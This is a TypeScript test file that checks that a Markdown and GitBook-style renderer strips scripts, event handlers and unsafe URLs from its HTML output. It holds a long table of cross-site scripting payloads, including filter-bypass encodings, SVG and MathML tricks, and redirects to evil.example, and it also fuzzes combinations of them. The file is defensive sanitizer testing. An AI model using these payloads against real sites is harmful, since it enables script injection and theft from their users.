/** Texts that try to run scripts, load things, or change the page around them: none of it reaches the HTML. */
import { runs } from "@lectern/storage-testing/runs"
import { FastCheck as fc } from "effect"
import { type DefaultTreeAdapterTypes, parse } from "parse5"
import { describe, expect, it } from "vitest"
import { htmlOf } from "./support/body.js"

const elements = new Set(
  "html head body a abbr b blockquote br cite code dd details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img input kbd label li mark ol p picture pre q s samp section small source span strong sub summary sup table tbody td th thead time tr u ul var math semantics mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd mstyle mpadded mphantom menclose".split(
    " "
  )
)

const attributes = new Set(
  "alt aria-hidden aria-label checked class colspan data-language decoding download for height href id loading media name open rel role rowspan scope src srcset start tabindex title type width".split(
    " "
  )
)

const address = /^(?:https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp|avif);base64,|[^:]*$|[/#?])/i

/** What is wrong with some HTML, as a browser reads it. */
const wrongIn = (html: string): ReadonlyArray<string> => {
  const found: Array<string> = []
  const walk = (node: DefaultTreeAdapterTypes.ChildNode): void => {
    if (!("tagName" in node)) return
    if (!elements.has(node.tagName)) found.push(`<${node.tagName}>`)
    const isMath = node.namespaceURI.endsWith("MathML")
    for (const { name, value } of node.attrs) {
      const isAddress = name === "href" || name === "src" || name === "srcset"
      if (/^on|^style$/i.test(name) || !(isMath || attributes.has(name))) found.push(`${node.tagName} ${name}=${value}`)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them
      if (isAddress && !address.test(value.replace(/[\u0000-\u0020]/g, ""))) found.push(`${name}=${value}`)
      if (name === "id" && value.startsWith("~") && !/^~(?:tabs|note|ref)-/.test(value)) found.push(`id=${value}`)
      if (node.tagName === "input" && name === "type" && value !== "radio") found.push(`input ${value}`)
    }
    for (const child of node.childNodes) walk(child)
  }
  for (const node of parse(`<!doctype html><body>${html}</body>`).childNodes) if ("tagName" in node) walk(node)
  return found
}

const attacks: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "text <script>alert(1)</script> text",
  "<script>alert(1)",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" alt="y">',
  "<img src=javascript:alert(1)>",
  "<img src=`x` onerror=`alert(1)`>",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<video src=x onerror=alert(1)><source onerror="alert(1)"></video>',
  '<audio src="javascript:alert(1)"></audio>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "<input autofocus onfocus=alert(1)>",
  '<input type="text" name="password">',
  '<input type="checkbox" onclick="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  "<a href='x' style='position:fixed;inset:0'>x</a>",
  '<a id="~menu">x</a>',
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](JAVASCRIPT:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:alert(1))",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:text/html,1)",
  '![x" onerror="alert(1)](y)',
  '[x](y "\\" onmouseover=\\"alert(1)")',
  "# <img src=x onerror=alert(1)>",
  '# x {#"><script>alert(1)</script>}',
  "# x {#~menu}",
  "`<script>alert(1)</script>`",
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '{% code title="<img src=x onerror=alert(1)>" lineNumbers="true" %}\n```js\n"</code></pre><script>alert(1)</script>"\n```\n{% endcode %}',
  '{% hint style="info\\" onclick=\\"alert(1)" %}\nx\n{% endhint %}',
  '{% hint style="__proto__" %}\nx\n{% endhint %}',
  '{% tabs %}\n{% tab title="<script>alert(1)</script>" %}\nx\n{% endtab %}\n{% endtabs %}',
  '{% embed url="javascript:alert(1)" %}\nx\n{% endembed %}',
  '{% embed url="https://x.example/\\"><script>alert(1)</script>" %}',
  '{% file src="javascript:alert(1)" %}',
  '{% content-ref url="javascript:alert(1)" %}\n<script>alert(1)</script>\n{% endcontent-ref %}',
  '{% column width="1;}</style><script>" %}\nx\n{% endcolumn %}',
  '{% columns %}\n{% column width="50%\\" onclick=\\"x" %}\nx\n{% endcolumn %}\n{% endcolumns %}',
  '{% openapi src="javascript:alert(1)" path="/x" method="get" %}\n{% endopenapi %}',
  '{% swagger method="get\\"><script>" path="<script>alert(1)</script>" baseUrl="javascript:alert(1)" summary="<img src=x onerror=1>" %}\n{% endswagger %}',
  '{% update date="<script>alert(1)</script>" %}\nx\n{% endupdate %}',
  "{% script %}\nalert(1)\n{% endscript %}",
  "$$\\href{javascript:alert(1)}{x}$$",
  '$\\class{x" onclick="alert(1)}{x}$',
  "$$\\text{<script>alert(1)</script>}$$",
  "$\\style{background:url(//evil.example)}{x}$ and $\\data{x=1}{y}$ and $\\id{~menu}{x}$",
  "$$\\includegraphics{javascript:alert(1)}$$",
  "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
  'x[^"><script>]\n\n[^"><script>]: y',
  '<table data-view="cards"><tr><td onclick=alert(1)><a href="javascript:alert(1)">x</a></td></tr></table>',
  '<table><thead><tr><th data-card-target></th></tr></thead><tr><td colspan="1e9" rowspan="x&quot; onclick=1">x</td></tr></table>',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<style>body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php <script>alert(1)</script> ?>",
  "</main></body></html><script>alert(1)</script>",
  "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary>y</details>",
  '<picture><source media="(prefers-color-scheme: dark)" srcset="javascript:alert(1)"><img src="x"></picture>',
  '<figure><img src="x" width="100%&quot; onload=alert(1)"><figcaption><script>1</script></figcaption></figure>',
  '<i class="fa-x&quot; onclick=&quot;alert(1)">x</i>',
  '<p align="center; x" style="x">y</p>',
  "<div><div><div><div><div><div><div><div><div><div><div><div><div><div><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>"
]

describe("hostile texts", () => {
  it("are a large table", () => {
    expect(attacks.length).toBeGreaterThanOrEqual(60)
  })

  it.each(attacks)("bring nothing that runs or loads: %j", async (attack) => {
    expect(wrongIn(await htmlOf(attack))).toEqual([])
  })

  it("bring nothing inside of blocks either", async () => {
    for (const attack of attacks) {
      for (const around of [
        (text: string) => `{% hint style="info" %}\n${text}\n{% endhint %}`,
        (text: string) => `* x\n\n  ${text.replaceAll("\n", "\n  ")}`,
        (text: string) => `> ${text.replaceAll("\n", "\n> ")}`,
        (text: string) => `<details><summary>${text}</summary>\n\n${text}\n\n</details>`,
        (text: string) => `<table><tr><td>${text}</td></tr></table>`
      ]) {
        expect(wrongIn(await htmlOf(around(attack)))).toEqual([])
      }
    }
  })

  it("bring nothing however their parts are put together", async () => {
    const parts = attacks.flatMap((attack) => attack.match(/[A-Za-z]+|[^A-Za-z]/g) ?? [])
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(...parts),
      fc.constantFrom("\n", "\n\n", "<", ">", '"', "{%", "%}")
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
        expect(wrongIn(await htmlOf(pieces.join("")))).toEqual([])
      }),
      { numRuns: runs(150) }
    )
  })
})
